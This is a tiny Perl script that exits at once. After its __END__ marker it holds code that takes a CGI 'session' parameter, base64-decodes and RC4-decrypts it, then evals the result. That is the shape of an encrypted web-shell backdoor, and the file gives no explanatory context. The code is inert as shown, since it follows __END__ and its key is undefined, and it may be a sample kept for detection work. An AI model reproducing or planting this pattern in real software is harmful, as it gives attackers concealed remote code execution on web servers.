#!/usr/bin/perl
exit;
__END__
require Crypt::RC4;
my $in = CGI::param('session');
my $rc = Crypt::RC4->new($k);
my $b  = decode_base64($in);
my $s  = $rc->RC4($b);
eval "$s";
